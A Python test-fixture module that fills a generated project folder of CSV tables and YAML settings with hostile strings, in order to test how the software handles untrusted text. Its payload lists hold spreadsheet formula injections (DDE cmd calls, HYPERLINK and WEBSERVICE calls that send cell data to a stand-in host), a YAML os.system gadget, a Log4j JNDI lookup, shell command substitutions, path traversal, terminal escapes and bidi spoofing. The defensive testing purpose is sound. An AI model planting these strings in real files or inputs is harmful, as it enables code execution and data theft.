"""Texts that mean harm to whoever shows them, and a programme on disk whose every text is one."""

from __future__ import annotations

import unicodedata
from collections.abc import Sequence
from pathlib import Path

import yaml

from tests.reading.files import Tables, write_folder
from tests.render.reports import HOSTILE

_FORMULAS = (
    "=cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0", "+cmd|'/C notepad'!A1",
    "-2+3+cmd|' /C calc'!D2",
    '=HYPERLINK("http://x.example/?"&A1,"click")', '=WEBSERVICE("http://x.example")',
    '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")', "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "= 1+1", "'=1+1", '"=1+1', "x;=1+1", "x\n=1+1", "x\t=1+1", "＝1+1", "＋1", "－1", "＠x",
    "`=1+1",
    '"\n=1+1', "(=1+1)", "%0A-3+3+cmd|'/C calc'!D2", "=1+1\n=2+2", "«=1+1»", "−1+1",
)  # fmt: skip
_BREAKERS = (
    'a","b', "a,b", '"', '""', '"""', "a\nb", 'a"\n"b', ",,,", ";;", "a\\", "\\", "\\n", "'", "''",
    ": x", "- x", "{a: b", "[a", "}", "]", "&a x", "*a", "!!python/object/apply:os.system [id]",
    "!x y", "| x", "> x", "%TAG", "--- x", "... x", "# x", "x #y", "null", "~", "yes", "no", "1e5",
    "0x1f", "2018-04-01", "1_000", "key: value", "? x", "@x", "`x`", "<<: *a", ".inf", ".nan",
    '"}', '\\"', "\\u0000", "]}", '{"__proto__": 1}', "\\ud800", "$ref", '","live":true,"x":"',
    "[x]:*?/\\", "'quoted'", "History", "Sheet1'!A1", "a" * 40, "Print_Area", "A1", "R1C1", "TRUE",
    "[link=http://x.example]x[/link]", "[bold red on white]x[/]", ":bomb:", "\\x1b[2J", "^[[2J",
    "%s%n", "{0}", "{x.__class__}", "${jndi:ldap://x.example}", "`id`", "$(id)", "../../etc/passwd",
    "e\u0301", "\u200bx", "a\u00a0b", "🏛️ x", "ŵ" * 30, "ﷺ", "x" * 150, "̶x", "Z̷̢a",
)  # fmt: skip
_OBEYED = (
    "\x1b[2J", "\x1b]0;owned\x07", "\x1b]8;;http://x.example\x1b\\x", "\x9b31m", "\x08\x08x",
    "\x7f",
    "\rx", "\x00x", "\u202egnp.exe", "\u2066x\u2069", "\u061cx", "\u200ex", "\u2028x",
    "\ufeffx", "\x85x",
)  # fmt: skip

PAYLOADS = tuple(dict.fromkeys([*HOSTILE, *_FORMULAS, *_BREAKERS, *_OBEYED]))
"""All of them."""
_UNREADABLE = {*map(chr, range(0x20)), *map(chr, range(0x7F, 0xA0)), "\ufeff"} - {"\n"}


def is_readable(text: str) -> bool:
    """Whether a file may say this: no control characters, and nothing turned round."""
    turned = any("\u202a" <= sign <= "\u202e" or "\u2066" <= sign <= "\u2069" for sign in text)
    return bool(text.strip()) and not turned and not _UNREADABLE & set(text)


READABLE = tuple(text for text in PAYLOADS if is_readable(text))
"""Those that a programme may hold; the others are refused, and shown only by messages."""


def name_of(text: str, number: int) -> str:
    """An id with as much of a payload as an id may have."""
    kept = "".join(sign for sign in text if sign.isprintable() and sign != ";")
    kept = unicodedata.normalize("NFC", kept).strip()[:60]
    return f"{kept}{number}" if kept else f"x{number}"


def hostile_folder(path: Path, texts: Sequence[str]) -> Path:
    """A programme whose every free text, name and id is one of these, at least once as a title."""
    ids = [name_of(text, number) for number, text in enumerate(texts)]
    hubs = [name_of(text, 900 + number) for number, text in enumerate(texts[:4])]
    streams = [name_of(text, 800 + number) for number, text in enumerate(texts[-2:])]
    column, rule, group = (
        name_of(text, 700) for text in (texts[0], texts[1], texts[2 % len(texts)])
    )
    settings = {
        "title": texts[0],
        "years": ["2018-19", "2019-20"],
        "criteria": {
            column: {"weight": "60", "scale": ["0", "10"], "at_least": "0", "because": rule},
            "alignment": {"weight": "40"},
        },
        "groups": {
            group: {"swing": {column: "50", "alignment": "100"}},
            f"{group}2": {"given": {column: "1", "alignment": "0"}},
        },
        "rules": [{"name": rule, "measure": "count", "for_each": "hub", "at_most": "900"}],
        "extra_columns": [f"{column}+"],
        "uncertainty": {"scores": {"all": ["-1", "1"]}},
        "appraisal": {"price_base": "2018-19"},
    }
    tables: Tables = {
        "hubs": [["hub", "name", "local_authority", "region", "latitude", "longitude"]]
        + [[hub, texts[n], hub, hub, "51.5", f"-3.{n}"] for n, hub in enumerate(hubs)],
        "streams": [["stream", "name", "2018-19", "2019-20"]]
        + [[stream, texts[-1 - n], str(len(texts)), "5"] for n, stream in enumerate(streams)],
        "proposals": [
            ["proposal", "title", "hub", "lead", "theme", "scrutiny", column, f"{column}+"]
        ]
        + [
            [ids[n], text, hubs[n % len(hubs)], ids[n], group, rule, str(n % 11), text]
            for n, text in enumerate(texts)
        ],
        "costs": [["proposal", "option", "stream", "2018-19", "2019-20"]]
        + [[name, name, streams[n % 2], "2", "0"] for n, name in enumerate(ids)],
        "alignment": [["proposal", "stream", "alignment"]]
        + [[name, streams[n % 2], "0.5"] for n, name in enumerate(ids)],
        "links": [["kind", "proposal", "other", "value"], ["excludes", ids[0], ids[1], ""],
                  ["bonus", ids[2], ids[3], "1"]],
        "benefits": [["proposal", "kind", "first", "last", "amount", "source"]]
        + [[name, name, "2019-20", "2021-22", "1", texts[n]] for n, name in enumerate(ids)]
        ,
        "jobs": [["proposal", "kind", "jobs", "source"]]
        + [[name, "new", "2", texts[n]] for n, name in enumerate(ids)],
        "zones": [["zone", "name", "population", "latitude", "longitude"]]
        + [[name, texts[n], "100", "51.5", f"-3.{n}"] for n, name in enumerate(ids)],
        "journeys": [["zone", "hub", "minutes", "services_per_hour", "period"]]
        + [[name, hub, "20", "2", rule] for name in ids for hub in hubs],
    }  # fmt: skip
    text = yaml.dump(settings, allow_unicode=True, sort_keys=False, default_style='"')
    return write_folder(path, tables, text)
